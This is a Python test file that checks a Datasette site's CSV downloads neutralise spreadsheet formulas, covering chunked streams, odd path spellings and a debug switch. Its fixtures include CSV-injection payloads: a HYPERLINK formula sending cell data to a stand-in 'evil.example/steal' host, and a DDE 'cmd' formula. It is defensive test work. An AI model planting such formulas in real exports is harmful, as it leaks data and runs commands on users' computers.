"""CSV downloads of the public site open in a spreadsheet as text, never as formulas."""

from __future__ import annotations

import csv
import io
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.test_public import get, publish_into
from tracker import claims, coverage, stories, users
from tracker.public import make_datasette
from tracker.public.plugins.csv_cells import FormulaEscaper, neutral_field

FORMULA_CLAIM = '=HYPERLINK("https://evil.example/steal?d="&A1,"Click for the documents")'
HANDLE = "@AcmeWhistle"
PLAIN_CLAIM = "Kettles were tested - twice, the company says."


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    "cell,expected",
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1", "'\r=1"),
        ("  =1+1", "'  =1+1"),
        ("-3", "-3"),
        ("+1.5", "+1.5"),
        ("-2.5e3", "-2.5e3"),
        ("Kettles - twice", "Kettles - twice"),
        ("", ""),
        ('He said "=no"', 'He said "=no"'),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe_and_numbers_stay_numbers(cell, expected):
    buffer = io.StringIO()
    csv.writer(buffer).writerow([cell, "next"])
    out = FormulaEscaper().feed(buffer.getvalue().encode(), final=True).decode()
    assert rows_of(out) == [[expected, "next"]]


rows_strategy = st.lists(
    st.lists(st.text(alphabet=st.sampled_from("ab =+-@\t\r\n\",'é12."), max_size=8), min_size=1, max_size=4),
    min_size=1,
    max_size=6,
)


@settings(max_examples=1000, deadline=None)
@given(rows=rows_strategy, cuts=st.lists(st.integers(min_value=0, max_value=400), max_size=6))
def test_any_csv_cut_anywhere_reads_back_as_its_cells_with_formulas_neutralised(rows, cuts):
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    data = buffer.getvalue().encode()
    bounds = sorted({min(c, len(data)) for c in cuts})
    pieces = [data[a:b] for a, b in zip([0, *bounds], [*bounds, len(data)], strict=True)]
    escaper = FormulaEscaper()
    out = b"".join(escaper.feed(piece, final=i == len(pieces) - 1) for i, piece in enumerate(pieces))
    expected = [[neutral_value(cell) for cell in row] for row in rows_of(data.decode())]
    assert rows_of(out.decode()) == expected


def neutral_value(cell: str) -> str:
    buffer = io.StringIO()
    csv.writer(buffer).writerow([cell])
    return rows_of(neutral_field(buffer.getvalue().rstrip("\r\n")))[0][0] if cell else cell


def build_formula_story(db) -> dict:
    editor = users.add_user(db, "edith.editor", "correct-horse-battery", "editor")
    story = stories.create_story(db, "acme-kettles", "Acme kettles", "Questions about Acme Widgets' kettles.")
    item = coverage.upsert_item(
        db, story["id"], "https://news.example.com/acme", outlet="Example News", published_at="2025-11-20T09:00:00Z"
    )
    rev, _ = coverage.add_revision(db, item, "A post said so.")
    ids = []
    for text, claimant in ((FORMULA_CLAIM, HANDLE), (PLAIN_CLAIM, "-a spokesperson")):
        claim_id = claims.log_claim(db, story["id"], text, claimant, "unattributed", editor)
        claims.add_evidence(db, claim_id, rev, "A post said so.", "supports", editor)
        claims.set_published(db, claim_id, True, editor, claims.get_claim(db, claim_id)["version"])
        ids.append(claim_id)
    return {"ids": ids}


@pytest.fixture(scope="module")
def formula_site(tmp_path_factory) -> dict:
    folder, info = publish_into(tmp_path_factory, "formulas", build_formula_story)
    return {"ds": make_datasette(str(folder / "public.db")), **info}


@pytest.mark.parametrize(
    "path", ["/public/claims.csv", "/public/claims.csv?_dl=1", "/public/claims.csv?_stream=on", "/public/timeline.csv"]
)
def test_a_published_claim_written_as_a_formula_downloads_as_text(formula_site, path):
    response = get(formula_site["ds"], path)
    assert response.status_code == 200
    cells = [cell for row in rows_of(response.text) for cell in row]
    assert "'" + FORMULA_CLAIM in cells and FORMULA_CLAIM not in cells
    if "timeline" not in path:
        assert "'" + HANDLE in cells and "'-a spokesperson" in cells
    assert PLAIN_CLAIM in cells  # a dash inside the text is no formula
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@") or cell.startswith("-a")]


def test_json_and_html_keep_the_text_as_the_editor_published_it(formula_site):
    rows = get(formula_site["ds"], "/public/claims.json?_shape=array").json()
    assert {row["text"] for row in rows} == {FORMULA_CLAIM, PLAIN_CLAIM}
    page = get(formula_site["ds"], "/public/claims")
    assert "&#39;=HYPERLINK" not in page.text and "'=HYPERLINK" not in page.text


def test_a_free_form_query_s_csv_is_neutralised_but_its_numbers_are_not(formula_site):
    sql = "select -3 as n, '+1.5' as m, '=1+1' as f, '@x' as h, 'text' as t"
    response = get(formula_site["ds"], f"/public.csv?sql={quote(sql)}")
    assert response.status_code == 200
    assert rows_of(response.text) == [["n", "m", "f", "h", "t"], ["-3", "+1.5", "'=1+1", "'@x", "text"]]


def test_the_timeline_csv_holds_what_readers_read_and_the_json_what_programs_page_with(formula_site):
    """The timeline's CSV held `has_older`, `claim_ids` and `coverage_id`: what the page reads to lay itself out,
    columns no reader can use. It holds what the page shows (a date that is only a day says so), the event's id
    (the `before` of the next page) and the claim's id (its page: /public/claims/ID); the JSON keeps the rest
    for programs that page and follow statements."""
    response = get(formula_site["ds"], "/public/timeline.csv?_size=max&_dl=1")
    assert response.status_code == 200
    header, *rows = rows_of(response.text)
    assert header == [
        "date", "date_precision", "kind", "claim", "claimant", "status", "source_url", "outlet", "detail", "story",
        "claim_id", "from_status", "to_status", "id", "date_local",
    ]  # fmt: skip
    assert rows and all(len(row) == len(header) for row in rows)
    by_name = [dict(zip(header, row, strict=True)) for row in rows]
    events = get(formula_site["ds"], "/public/timeline.json?_shape=array").json()
    assert [str(e["id"]) for e in events] == [row["id"] for row in by_name]
    assert {"has_older", "claim_ids", "coverage_id"} <= set(events[0])


def test_columns_left_out_of_a_csv_leave_every_row_whole_however_it_arrives():
    text = 'a,drop,b,last\r\n1,"x,y",2,"z\r\nz"\r\n"=3",4,5,6\r\n'
    expected = [["a", "b"], ["1", "2"], ["'=3", "5"]]
    for size in (1, 2, 5, len(text)):
        escaper = FormulaEscaper(leave_out=frozenset({"drop", "last"}))
        data = text.encode()
        out = b"".join(escaper.feed(data[i : i + size]) for i in range(0, len(data), size)) + escaper.feed(b"", True)
        assert rows_of(out.decode()) == expected, size


@pytest.mark.parametrize(
    "spelling", ["/public/~74imeline.csv", "/~70ublic/timeline.csv", "/public/time~6Cine.csv?_dl=1"]
)
def test_a_ready_made_querys_csv_leaves_out_its_columns_however_its_address_is_spelled(formula_site, spelling):
    """Datasette reads `~XX` in a name as the character (tilde encoding): `/public/~74imeline.csv` is the timeline's
    CSV, and it kept the columns the timeline's CSV leaves out (`has_older`, `claim_ids`, ...)."""
    plain = get(formula_site["ds"], "/public/timeline.csv")
    spelled = get(formula_site["ds"], spelling)
    assert spelled.status_code == 200
    assert rows_of(spelled.text)[0] == rows_of(plain.text)[0]
    assert spelled.text == plain.text


@pytest.mark.parametrize(
    "path",
    ["/public/claims.csv?_trace=1&_dl=1", "/public/claims.csv?%5Ftrace=on", "/public/timeline.csv?_dl=1&_trace=1"],
)
def test_a_csv_asked_for_with_datasettes_debug_switch_is_still_the_csv(formula_site, path):
    """`_trace=1` made Datasette send a CSV as an HTML page of it (a textarea), which the formula guard, reading
    CSV only, let through: with `_dl=1` a reader saved `claims.csv` whose cells a spreadsheet runs as formulas,
    the timeline's with the columns its CSV leaves out, and the page had the data pages' looser policy. The
    switch is left out: the answer is the CSV, as without it."""
    plain = get(formula_site["ds"], path.replace("_trace=1", "").replace("%5Ftrace=on", "").replace("&&", "&"))
    response = get(formula_site["ds"], path)
    assert response.status_code == 200
    assert response.headers["content-type"].split(";")[0] in ("text/csv", "text/plain")
    assert response.text == plain.text
    cells = [cell for row in rows_of(response.text) for cell in row]
    assert FORMULA_CLAIM not in cells and "has_older" not in cells
